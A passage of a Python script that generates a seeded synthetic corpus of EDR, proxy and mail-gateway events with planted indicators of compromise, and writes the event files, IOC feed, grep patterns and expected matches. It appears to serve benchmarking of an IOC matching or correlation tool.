                "subject": rng.choice(_SUBJECTS).format(n=rng.randrange(1000, 99999)),
                "message_id": f"<{rng.getrandbits(64):016x}@{self.benign_domain()}>",
                "local_id": f"{rng.getrandbits(40):010X}",
                "delivery_timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z",
                "x_mailer": "Microsoft Outlook 16.0",
                "attachments": attachments,
            },
            "source": {"ip": self.benign_public_ip()},
            "observer": {"vendor": "ExampleGateway", "product": "MailFilter", "version": "9.1"},
        }
        if not attachments:
            del document["email"]["attachments"]  # type: ignore[attr-defined]
        return orjson.dumps(document), expected


def _plant_pools(iocs: IocSet, plant_from: int, hot: int | None) -> dict[str, list[str]]:
    pools: dict[str, list[str]] = {}
    for kind, value in iocs.items[:plant_from]:
        pools.setdefault(kind, []).append(value)
    if hot:
        pools = {kind: values[:hot] for kind, values in pools.items()}
    return pools


def _choose_plants(rng: random.Random, kind: str, pools: dict[str, list[str]]) -> list[tuple[str, str]]:
    weights = {name: weight for name, weight in PLANT_TYPES[kind].items() if pools.get(name)}
    if not weights:
        return []
    first = rng.choices(list(weights), weights=list(weights.values()))[0]
    plants = [(first, rng.choice(pools[first]))]
    if rng.random() < 0.1:
        # A second IOC of a type the same event can carry in another field.
        companions = {
            "edr": {
                "sha256": "url",
                "md5": "domain",
                "sha1": "ipv4",
                "domain": "ipv4",
                "ipv4": "domain",
                "url": "sha256",
            },
            "proxy": {"url": "ipv4", "domain": "cidr", "ipv4": "domain", "cidr": "domain"},
            "mail": {"sha256": "email", "md5": "sha256", "sha1": "email", "email": "sha256"},
        }[kind]
        second = companions.get(first)
        if second and pools.get(second):
            value = rng.choice(pools[second])
            if (second, value) not in plants:
                plants.append((second, value))
    return plants


def generate_events(
    iocs: IocSet,
    count: int,
    seed: int,
    *,
    hit_rate: float = 0.01,
    near_miss_rate: float = 0.005,
    mix: dict[str, float] | None = None,
    plant_from: int = 10_000,
    hot: int | None = None,
    hosts: int = 2000,
    events_per_second: float = 2000.0,
) -> Corpus:
    """Generate ``count`` events; about ``hit_rate`` of them carry IOCs from the first ``plant_from`` IOCs.

    ``hot`` limits planted IOCs to the first ``hot`` of each type, so the same
    IOC reaches several hosts and the correlator raises spread alerts.
    """
    rng = random.Random(f"events-{seed}")
    pools = _plant_pools(iocs, plant_from, hot)
    factory = EventFactory(rng, iocs, hosts, pools.get("domain", []))
    shares = mix or DEFAULT_MIX
    kinds, weights = list(shares), list(shares.values())
    events: list[tuple[str, bytes]] = []
    expected: dict[int, frozenset[str]] = {}
    builders = {"edr": factory.edr, "proxy": factory.proxy, "mail": factory.mail}
    near_misses = 0
    for index in range(count):
        kind = rng.choices(kinds, weights=weights)[0]
        plants = _choose_plants(rng, kind, pools) if rng.random() < hit_rate else []
        near_miss = not plants and kind in ("edr", "proxy") and rng.random() < near_miss_rate
        near_misses += near_miss
        seconds = BASE_TIME + index / events_per_second
        raw, keys = builders[kind](seconds, plants, near_miss)
        events.append((kind, raw))
        if keys:
            expected[index] = frozenset(keys)
    return Corpus(events=events, expected=expected, iocs=iocs, seed=seed, hit_rate=hit_rate, near_misses=near_misses)


# -- files -----------------------------------------------------------------


def grep_patterns(iocs: IocSet, count: int | None = None) -> list[str]:
    """Return the IOC values a fixed-string search can look for: every IOC but the CIDR blocks."""
    return [value for kind, value in iocs.items[:count] if kind != "cidr"]


def write_corpus(corpus: Corpus, out: Path, ioc_count: int | None = None) -> dict[str, Path]:
    """Write the event files, the IOC feed, the grep pattern file and the expected matches under ``out``."""
    out.mkdir(parents=True, exist_ok=True)
    paths = {kind: out / FILE_NAMES[kind] for kind in KINDS}
    handles = {kind: paths[kind].open("wb") for kind in KINDS}
    order = []
    lines = dict.fromkeys(KINDS, 0)
    expected_lines = []
    try:
        for index, (kind, raw) in enumerate(corpus.events):
            handles[kind].write(raw + b"\n")
            order.append(KIND_CODES[kind])
            if index in corpus.expected:
                expected_lines.append(
                    orjson.dumps(
                        {
                            "event": index,
                            "file": FILE_NAMES[kind],
                            "line": lines[kind],
                            "keys": sorted(corpus.expected[index]),
                        }
                    )
                )
            lines[kind] += 1
    finally:
        for handle in handles.values():
            handle.close()
    count = len(corpus.iocs) if ioc_count is None else ioc_count
    paths["iocs"] = out / "iocs.jsonl"
    with paths["iocs"].open("wb") as handle:
        for record in corpus.iocs.records(count):
            handle.write(orjson.dumps(record) + b"\n")
    paths["plain"] = out / "iocs.txt"
    paths["plain"].write_text("".join(f"{value}\n" for _, value in corpus.iocs.items[:count]), encoding="utf-8")
    paths["patterns"] = out / "patterns.txt"
    paths["patterns"].write_text("".join(f"{value}\n" for value in grep_patterns(corpus.iocs, count)), encoding="utf-8")
    paths["expected"] = out / "expected.jsonl"
    paths["expected"].write_bytes(b"".join(line + b"\n" for line in expected_lines))
    paths["order"] = out / "order.txt"
    paths["order"].write_text("".join(order) + "\n", encoding="ascii")
    manifest = {
        "seed": corpus.seed,
        "events": len(corpus.events),
        "iocs": count,
        "hit_rate": corpus.hit_rate,
        "events_with_iocs": len(corpus.expected),
        "near_misses": corpus.near_misses,
        "files": {kind: FILE_NAMES[kind] for kind in KINDS},
        "events_per_file": lines,
    }
    paths["manifest"] = out / "manifest.json"
    paths["manifest"].write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    return paths


def read_corpus_files(directory: Path) -> tuple[list[tuple[str, bytes]], dict[int, frozenset[str]]]:
    """Read events in produce order and the expected matches back from a ``write_corpus`` folder."""
    codes = {code: kind for kind, code in KIND_CODES.items()}
    order = (directory / "order.txt").read_text(encoding="ascii").strip()
    lines = {kind: (directory / FILE_NAMES[kind]).read_bytes().splitlines() for kind in KINDS}
    positions = dict.fromkeys(KINDS, 0)
    events = []
    for code in order:
        kind = codes[code]
        events.append((kind, lines[kind][positions[kind]]))
        positions[kind] += 1
    expected = {}
    for line in (directory / "expected.jsonl").read_bytes().splitlines():
        entry = orjson.loads(line)
        expected[entry["event"]] = frozenset(entry["keys"])
    return events, expected


def summarize(corpus: Corpus) -> dict[str, object]:
    """Return counts and mean sizes per event kind."""
    sizes: dict[str, list[int]] = {kind: [] for kind in KINDS}
    for kind, raw in corpus.events:
        sizes[kind].append(len(raw))
    return {
        "events": len(corpus.events),
        "events_with_iocs": len(corpus.expected),
        "expected_matches": sum(len(keys) for keys in corpus.expected.values()),
        "near_misses": corpus.near_misses,
        "per_kind": {
            kind: {"events": len(values), "mean_bytes": round(sum(values) / len(values)) if values else 0}
            for kind, values in sizes.items()
        },
        "bytes": sum(len(raw) for _, raw in corpus.events),
    }


def _parse_mix(text: str) -> dict[str, float]:
    mix = {}
    for part in text.split(","):
        name, _, share = part.partition("=")
        if name not in KINDS:
            raise argparse.ArgumentTypeError(f"event kind {name!r} must be one of {', '.join(KINDS)}")
        mix[name] = float(share)
    return mix


def main(argv: Iterable[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description="Write a seeded mixed event corpus, an IOC feed and the expected matches."
    )
    parser.add_argument("--events", type=int, default=100_000, help="number of events (default 100000)")
    parser.add_argument("--iocs", type=int, default=100_000, help="number of IOCs (default 100000)")
    parser.add_argument("--seed", type=int, default=7, help="random seed (default 7)")
    parser.add_argument("--hit-rate", type=float, default=0.01, help="share of events that carry an IOC (default 0.01)")
    parser.add_argument("--mix", type=_parse_mix, default=None, help="event mix, e.g. edr=0.45,proxy=0.4,mail=0.15")
    parser.add_argument(
        "--plant-from", type=int, default=10_000, help="plant IOCs only from the first N of the set (default 10000)"
    )
    parser.add_argument(
        "--hot", type=int, default=None, help="plant only the first N IOCs of each type, so IOCs repeat across hosts"
    )
    parser.add_argument("--out", type=Path, required=True, help="output folder")
    args = parser.parse_args(list(argv) if argv is not None else None)
    started = time.perf_counter()
    iocs = generate_iocs(args.iocs, args.seed)
    corpus = generate_events(
        iocs, args.events, args.seed, hit_rate=args.hit_rate, mix=args.mix, plant_from=args.plant_from, hot=args.hot
    )
    paths = write_corpus(corpus, args.out)
    summary = summarize(corpus)
    print(
        json.dumps(
            {
                **summary,
                "seconds": round(time.perf_counter() - started, 2),
                "files": {name: str(path) for name, path in paths.items()},
            },
            indent=2,
        )
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
